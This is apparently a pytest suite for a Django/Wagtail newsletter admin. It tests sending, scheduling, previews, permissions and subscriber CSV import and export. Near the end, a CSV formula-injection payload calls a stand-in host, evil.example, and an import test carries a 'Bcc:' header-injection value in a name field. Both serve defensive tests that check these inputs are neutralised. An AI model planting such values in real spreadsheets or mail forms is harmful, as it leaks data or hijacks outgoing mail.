"""Admin: send a test to myself, schedule a send, stats, subscriber export; CSV import/export commands."""

import csv
import io

import pytest
from django.core import mail
from django.core.management import call_command
from django.urls import reverse
from django.utils import translation
from wagtail.users.models import UserProfile

from cms.newsletters.models import NewsletterSend, Subscriber
from tests.newsletters.factories import NewsletterPageFactory, SegmentFactory, SubscriberFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def editor(django_user_model):
    return django_user_model.objects.create_superuser("redacteur", "redactie@regio.nl", "wachtwoord")


@pytest.fixture
def send_screen(client, editor, archive) -> str:
    """The send screen of a published newsletter with two active subscribers, the editor logged in."""
    SubscriberFactory.create_batch(2)
    newsletter = NewsletterPageFactory(parent=archive)
    client.force_login(editor)
    return reverse("newsletters_send", args=[newsletter.pk])


def test_send_test_to_myself_mails_the_draft(
    client, editor, archive, smtp_server, django_capture_on_commit_callbacks
):
    newsletter = NewsletterPageFactory(parent=archive, subject="Oktober")
    draft = newsletter.get_latest_revision_as_object()
    draft.subject = "Oktober (concept)"
    draft.save_revision()
    client.force_login(editor)
    url = reverse("newsletters_send", args=[newsletter.pk])

    assert client.get(url).status_code == 200
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"test-email": "redactie@regio.nl", "test": "1"})

    assert response.status_code == 302
    assert smtp_server.recipients() == ["redactie@regio.nl"]
    assert smtp_server.messages[0][1]["Subject"] == "[TEST] Oktober (concept)"
    assert not NewsletterSend.objects.exists(), "a test is not a send"


def test_send_from_admin_and_stats_shown(
    client, send_screen, smtp_server, django_capture_on_commit_callbacks
):
    url = send_screen

    with django_capture_on_commit_callbacks(execute=True):
        client.post(url, {"send": "1", "send-scheduled_at": ""})

    assert len(smtp_server.messages) == 2
    send = NewsletterSend.objects.get()
    assert send.status == NewsletterSend.Status.DONE
    page = client.get(url).content.decode()
    assert "<td>2</td>" in page


def test_send_view_needs_admin_access(client, archive):
    newsletter = NewsletterPageFactory(parent=archive)

    response = client.get(reverse("newsletters_send", args=[newsletter.pk]))

    assert response.status_code == 302
    assert "login" in response["Location"]


def test_admin_can_create_newsletter_pages_under_home_and_archive(client, editor, archive, region_site):
    client.force_login(editor)
    response = client.get(
        reverse("wagtailadmin_pages:add", args=["newsletters", "newsletterpage", archive.pk])
    )
    assert response.status_code == 200
    response = client.get(reverse("wagtailadmin_pages:add_subpage", args=[region_site.home.pk]))
    assert "newsletterarchivepage" not in response.content.decode(), "one archive per site"


def test_preview_modes_render_email_and_text(archive):
    newsletter = NewsletterPageFactory(parent=archive, title="Nieuwsbrief maart")

    email = newsletter.make_preview_request(preview_mode="email")
    text = newsletter.make_preview_request(preview_mode="text")
    web = newsletter.make_preview_request(preview_mode="")

    assert "<table" in email.content.decode() and 'style="' in email.content.decode()
    assert text["Content-Type"].startswith("text/plain")
    assert "Nieuwsbrief maart" in text.content.decode()
    assert "<table" not in text.content.decode()
    assert "Nieuwsbrief maart" in web.content.decode()


def test_subscriber_csv_export_from_admin_includes_the_mailing_lists(client, editor):
    SubscriberFactory(email="a@school.nl", segments=[SegmentFactory(slug="po"), SegmentFactory(slug="vmbo")])
    client.force_login(editor)

    response = client.get(reverse("wagtailsnippets_newsletters_subscriber:list"), {"export": "csv"})

    assert response.status_code == 200
    rows = list(
        csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")), delimiter=";")
    )
    header, (row,) = rows[0], rows[1:]
    assert row[0] == "a@school.nl"
    assert sorted(row[header.index("Verzendlijsten")].split()) == ["po", "vmbo"]


def test_import_with_consent_activates_and_without_keeps_pending(tmp_path):
    segment = SegmentFactory(slug="vmbo")
    path = tmp_path / "lijst.csv"
    path.write_text('email,name\nA@School.nl,Anna\nnot-an-email,X\nb@school.nl,"Bob\nBcc: x@y.nl"\n')

    call_command(
        "import_subscribers",
        str(path),
        "--consent",
        "--segment",
        "vmbo",
        stdout=io.StringIO(),
        stderr=(errors := io.StringIO()),
    )
    call_command("import_subscribers", str(path), stdout=io.StringIO(), stderr=io.StringIO())

    anna = Subscriber.objects.get(email="a@school.nl")
    assert anna.status == Subscriber.Status.ACTIVE
    assert anna.consent_given_at is not None
    assert list(anna.segments.all()) == [segment]
    assert Subscriber.objects.get(email="b@school.nl").name == "Bob Bcc: x@y.nl", "a name is put on one line"
    assert Subscriber.objects.count() == 2
    assert "Rij 3" in errors.getvalue() and "Rij 4" not in errors.getvalue()


def test_import_without_consent_stores_pending(tmp_path):
    path = tmp_path / "lijst.csv"
    path.write_text("email\nc@school.nl\n")

    call_command("import_subscribers", str(path), stdout=io.StringIO())

    assert Subscriber.objects.get().status == Subscriber.Status.PENDING


def test_export_command_writes_csv():
    SubscriberFactory(email="a@school.nl", segments=[SegmentFactory(slug="po")])
    out = io.StringIO()

    call_command("export_subscribers", stdout=out)

    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["email"] == "a@school.nl"
    assert rows[0]["segments"] == "po"
    assert rows[0]["consent_given_at"]


# --- CSV import in the admin ------------------------------------------------------------------


def upload(content: bytes, name: str = "lijst.csv"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, content, content_type="text/csv")


def test_the_subscriber_list_offers_the_import(client, editor):
    client.force_login(editor)
    html = client.get(reverse("wagtailsnippets_newsletters_subscriber:list")).content.decode()
    assert reverse("newsletters_import_subscribers") in html
    assert "CSV importeren" in html


def test_import_from_the_admin_with_consent_semicolons_and_a_bad_row(client, editor):
    segment = SegmentFactory(slug="po")
    client.force_login(editor)
    content = "Email;Name\nJuf@School.nl;Juf Anna\ngeen-adres;X\nmeester@school.nl;Meester Piet\n"

    response = client.post(
        reverse("newsletters_import_subscribers"),
        {"file": upload(content.encode("utf-8-sig")), "segments": [segment.pk], "consent": "on"},
    )

    assert response.status_code == 200
    html = response.content.decode()
    assert "Geïmporteerd: 2 nieuw, 0 al bekend." in html
    assert "Rij 3" in html
    assert sorted(Subscriber.objects.values_list("email", "status")) == [
        ("juf@school.nl", Subscriber.Status.ACTIVE),
        ("meester@school.nl", Subscriber.Status.ACTIVE),
    ]
    assert list(Subscriber.objects.get(email="juf@school.nl").segments.all()) == [segment]


def test_import_without_consent_keeps_them_pending_and_says_so(client, editor):
    client.force_login(editor)
    response = client.post(
        reverse("newsletters_import_subscribers"), {"file": upload(b"email\nc@school.nl\n")}
    )
    assert "Zonder toestemming krijgen de nieuwe adressen niets" in response.content.decode()
    assert not mail.outbox, "an import never mails the people on the list"
    assert Subscriber.objects.get().status == Subscriber.Status.PENDING


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("lijst.xlsx", b"email\na@school.nl\n", "Upload een .csv-bestand."),
        ("lijst.csv", b"naam\nAnna\n", "Het bestand heeft geen kolom met de naam"),
        ("lijst.csv", "email\nané@school.nl\n".encode("latin-1"), "UTF-8"),
    ],
    ids=["not-csv", "no-email-column", "not-utf8"],
)
def test_bad_files_are_refused_with_a_dutch_message_and_nothing_imported(
    client, editor, name, content, message
):
    client.force_login(editor)
    response = client.post(reverse("newsletters_import_subscribers"), {"file": upload(content, name)})
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Subscriber.objects.exists()


def test_only_people_who_may_add_subscribers_can_import(client, django_user_model):
    from django.contrib.auth.models import Permission

    user = django_user_model.objects.create_user("lezer", "lezer@regio.nl", "wachtwoord")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    response = client.post(
        reverse("newsletters_import_subscribers"), {"file": upload(b"email\na@school.nl\n")}
    )
    assert response.status_code in (302, 403)
    assert not Subscriber.objects.exists()


def test_a_scheduled_send_can_be_cancelled_and_then_nobody_gets_it(
    client, send_screen, smtp_server, django_capture_on_commit_callbacks
):
    import datetime as dt

    from django.utils import timezone

    from cms.newsletters import services

    url = send_screen
    later = timezone.localtime() + dt.timedelta(days=1)
    client.post(url, {"send": "1", "send-scheduled_at": later.strftime("%Y-%m-%d %H:%M")})
    send = NewsletterSend.objects.get()
    assert send.status == NewsletterSend.Status.SCHEDULED
    assert f'name="cancel" value="{send.pk}"' in client.get(url).content.decode()

    response = client.post(url, {"cancel": send.pk}, follow=True)

    assert "De geplande verzending is geannuleerd." in response.content.decode()
    send.refresh_from_db()
    assert send.status == NewsletterSend.Status.CANCELLED
    with django_capture_on_commit_callbacks(execute=True):
        services.start_send(send.pk)
    assert smtp_server.messages == []


def test_a_sent_newsletter_only_goes_out_again_when_asked_explicitly(
    client, send_screen, smtp_server, django_capture_on_commit_callbacks
):
    url = send_screen
    with django_capture_on_commit_callbacks(execute=True):
        client.post(url, {"send": "1", "send-scheduled_at": ""})
    assert len(smtp_server.messages) == 2

    with django_capture_on_commit_callbacks(execute=True):
        refused = client.post(url, {"send": "1", "send-scheduled_at": ""}, follow=True)
    assert "is al verstuurd" in refused.content.decode()
    assert len(smtp_server.messages) == 2

    with django_capture_on_commit_callbacks(execute=True):
        client.post(url, {"send": "1", "send-scheduled_at": "", "send-again": "on"})
    assert len(smtp_server.messages) == 4


def test_an_editor_with_the_english_admin_sends_a_dutch_newsletter(
    client, editor, archive, smtp_server, django_capture_on_commit_callbacks
):
    """The editor's admin language is theirs; the mail speaks the language of the site's content."""
    profile = UserProfile.get_for_user(editor)
    profile.preferred_language = "en"
    profile.save()
    newsletter = NewsletterPageFactory(parent=archive, subject="Oktober")
    client.force_login(editor)
    url = reverse("newsletters_send", args=[newsletter.pk])

    with django_capture_on_commit_callbacks(execute=True):
        client.post(url, {"test-email": "redactie@regio.nl", "test": "1"})

    text = smtp_server.messages[0][1].get_body(("plain",)).get_content()
    assert "Afmelden: " in text
    assert "Unsubscribe" not in text


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"klik")'


def test_export_command_neutralises_formulas():
    SubscriberFactory(email="a@school.nl", name=FORMULA)
    out = io.StringIO()

    call_command("export_subscribers", stdout=out)

    assert list(csv.DictReader(io.StringIO(out.getvalue())))[0]["name"] == "'" + FORMULA


def test_admin_list_export_neutralises_formulas(admin_client):
    SubscriberFactory(email="a@school.nl", name=FORMULA)

    response = admin_client.get(reverse("wagtailsnippets_newsletters_subscriber:list"), {"export": "csv"})

    rows = list(
        csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")), delimiter=";")
    )
    assert rows[1][:2] == ["a@school.nl", "'" + FORMULA]


def test_send_screen_has_the_standard_admin_header(client, send_screen):
    html = client.get(send_screen, headers={"accept-language": "nl"}).content.decode()

    assert 'class="w-breadcrumbs' in html or "w-breadcrumbs" in html  # Wagtail's slim header
    assert "Nieuwsbrief versturen" in html.split("<main", 1)[1].split("Stuur een test", 1)[0]


def test_preview_mode_email_is_labelled_email_not_email_address(archive):
    newsletter = NewsletterPageFactory(parent=archive)

    with translation.override("nl"):
        labels = [str(label) for _mode, label in newsletter.preview_modes]

    assert labels == ["Webversie", "E-mail", "Platte tekst"]
